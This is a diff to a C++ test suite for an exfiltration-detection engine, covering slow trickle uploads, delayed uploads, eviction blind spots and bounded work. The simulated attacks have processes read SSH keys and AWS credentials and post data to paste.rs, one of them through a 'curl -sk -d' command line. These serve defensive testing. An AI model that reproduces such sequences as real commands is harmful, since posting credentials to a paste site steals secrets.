@@ -94,6 +94,7 @@ TEST_CASE("attack 3: staged archive to cloud storage alerts T1567.002 (taint thr
     tl.open_read(tar, key + ".pub");
     tl.open_read(tar, home + "/.aws/credentials");
     tl.open_read(tar, home + "/.aws/config");
+    tl.wrote(tar, "/tmp/stage.tgz", 777);  // tar writes the archive after it read the files
     tl.exit(tar);
     tl.summary(tar, key, 2600);
     tl.summary(tar, key + ".pub", 600);
@@ -677,6 +678,7 @@ TEST_CASE("memory stays bounded and evictions are counted")
         auto p = tl.spawn(tl.shell, {"worker", std::to_string(i)}, "/usr/bin/worker");
         tl.open_write(p, "/tmp/out" + std::to_string(i), 100000 + i);
         tl.read(p, key, 100);  // tainted: its file is tracked, and evicting it is a blind spot
+        tl.wrote(p, "/tmp/out" + std::to_string(i), 100000 + i);
         auto f = tl.connect(p, "host" + std::to_string(i) + ".example");
         tl.flow(p, f, "host" + std::to_string(i) + ".example", 100, 100, false);
         tl.step(1100);
@@ -1126,4 +1128,154 @@ TEST_CASE("blind spots: the work bound shed while a sensitive read happened is r
     REQUIRE(spots.size() == 1);
     CHECK(spots[0].cause == "rescore_bounded");
     CHECK(spots[0].lost > 0);
+}
+
+namespace {
+
+constexpr TimeNs minute_ms = 60'000;
+
+// A script read the key; `posts` children each send `per_post` bytes to paste.rs, `gap_ms` apart.
+Timeline trickle(std::size_t posts, std::uint64_t per_post, TimeNs gap_ms, Rules rules = builtin())
+{
+    Timeline tl(std::move(rules));
+    auto script = tl.spawn(tl.shell, {"python3", "chunks.py"});
+    tl.read(script, key, 2000);
+    for (std::size_t i = 0; i < posts; ++i) {
+        auto child = tl.spawn(script, {"python3", "send.py"});
+        tl.transfer(child, "paste.rs", per_post, 200);
+        tl.exit(child);
+        tl.step(gap_ms);
+        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // time passes: expiry runs
+    }
+    return tl;
+}
+
+}  // namespace
+
+TEST_CASE("volume: a trickle of one post every 11 minutes over two hours adds up")
+{
+    auto slow = trickle(10, 512 + 300, 11 * minute_ms);  // 300 bytes of data a post, 3000 in all
+    REQUIRE_FALSE(slow.alerts.empty());  // silent before: each post's volume expired at the 10-minute window
+    CHECK(slow.alerts.back().subtechnique_id == "T1567.003");
+    CHECK(slow.has_signal(slow.alerts.back(), "data-volume"));
+    CHECK(trickle(10, 500, 11 * minute_ms).alerts.empty());  // handshakes only: nothing to add up
+}
+
+TEST_CASE("volume: an upload an hour after the read still alerts")
+{
+    Timeline tl;
+    auto script = tl.spawn(tl.shell, {"python3", "job.py"});
+    tl.read(script, key, 2600);
+    for (int i = 0; i < 60; ++i) {
+        tl.step(minute_ms);
+        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
+    }
+    auto child = tl.spawn(script, {"python3", "send.py"});
+    tl.transfer(child, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(tl.alerts.empty());
+    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
+}
+
+TEST_CASE("volume: a lineage's volume goes with its data; evicting one that holds data is a blind spot")
+{
+    // Kept past the window while the script holds the key; gone once nothing holds it.
+    Timeline gone;
+    auto script = gone.spawn(gone.shell, {"python3", "job.py"});
+    gone.read(script, key, 2600);
+    auto up = gone.spawn(script, {"python3", "send.py"});
+    gone.transfer(up, "paste.rs", 700, 200);
+    gone.exit(up);
+    auto idle = [&] {
+        for (int i = 0; i < 12; ++i) {
+            gone.step(minute_ms);
+            gone.feed(DnsAnswerEvent{gone.t, gone.shell, {}, "x", {}, {}});
+        }
+    };
+    idle();
+    CHECK(gone.engine.stats().volumes == 1);
+    CHECK(gone.engine.stats().pairs == 0);  // the pair itself goes at the window
+    gone.exit(script);
+    idle();
+    CHECK(gone.engine.stats().volumes == 0);
+
+    // At the cap: volumes of lineages that hold data are evicted loudly.
+    auto r = builtin();
+    r.settings.max_pairs = 8;
+    Timeline tl(std::move(r));
+    for (int i = 0; i < 20; ++i) {
+        auto session = tl.start_session({"python3", "job.py"});
+        tl.read(session, key, 2600);
+        auto child = tl.spawn(session, {"python3", "send.py"});
+        tl.transfer(child, "host" + std::to_string(i) + ".example", 300, 200);
+    }
+    bool reported = false;
+    for (const auto& b : tl.engine.take_blind_spots()) reported |= b.cause == "volume_evicted" && b.lost > 0;
+    CHECK(reported);
+}
+
+namespace {
+
+// A session with `background` UDP flows to distinct addresses and `background` sensitive reads by
+// as many processes (some sessions besides); then one exec, one flow summary and one read.
+// Returns the engine's evaluations and the lineage's work for those three.
+struct Work {
+    std::uint64_t evaluations = 0, lineage = 0, expiry = 0;
+};
+Work event_work(std::size_t background, std::size_t sessions)
+{
+    auto rules = builtin();
+    Timeline tl(std::move(rules));
+    std::vector<ProcessRef> ups;
+    for (std::size_t s = 0; s < sessions; ++s) {
+        auto leader = s == 0 ? tl.shell : tl.start_session({"bash"});
+        for (std::size_t i = 0; i < background / sessions; ++i) {
+            auto p = tl.spawn(leader, {"python3", "flood.py"}, {}, 0, 0, 0, StdoutKind::other);
+            tl.read(p, key, 400);
+            FlowSummaryEvent f;
+            f.time = tl.t;
+            f.process = p;
+            f.flow.socket_cookie = 500'000 + ups.size();
+            f.transport = Transport::udp;
+            f.destination = {
+                fmt::format("10.{}.{}.{}", (ups.size() >> 16) & 255, (ups.size() >> 8) & 255, ups.size() & 255), 9999};
+            f.bytes_out = 64;
+            tl.feed(f);
+            tl.step();
+            ups.push_back(p);
+        }
+    }
+    tl.step(1500);
+    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // expiry ran: what follows is the events' own
+    auto before = tl.engine.stats();
+    auto lineage_before = tl.engine.lineage().stats().work;
+    auto child = tl.spawn(tl.shell, {"curl", "-sk", "-d", "x", "https://paste.rs/"});  // fork + exec
+    tl.transfer(child, "paste.rs", 700, 200);                                          // connect, hello, 2 summaries
+    tl.read(child, home + "/.aws/credentials", 300);                                   // open + summary
+    tl.step(1500);
+    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // one expiry over the live tables
+    auto after = tl.engine.stats();
+    CHECK(after.pairs >= background / 2);
+    return Work{after.evaluations - before.evaluations, tl.engine.lineage().stats().work - lineage_before,
+                after.expiry_work - before.expiry_work};
+}
+
+}  // namespace
+
+TEST_CASE("bounded work: an exec, a flow and a read cost the same with 200 or 4000 flows and readers")
+{
+    auto small = event_work(200, 1);
+    auto large = event_work(4000, 1);
+    auto many = event_work(4000, 40);
+    MESSAGE("evaluations ", small.evaluations, "/", large.evaluations, "/", many.evaluations, ", lineage work ",
+            small.lineage, "/", large.lineage, "/", many.lineage, ", expiry ", small.expiry, "/", large.expiry, "/",
+            many.expiry);
+    CHECK(small.evaluations > 0);
+    CHECK(small.lineage > 0);
+    CHECK(large.evaluations == small.evaluations);
+    CHECK(many.evaluations == small.evaluations);
+    CHECK(large.lineage == small.lineage);
+    CHECK(many.lineage == small.lineage);
+    // expire() takes what is due, never a scan over the live flows, pairs and holders.
+    CHECK(large.expiry <= small.expiry + 2);
+    CHECK(many.expiry <= small.expiry + 2);
 }
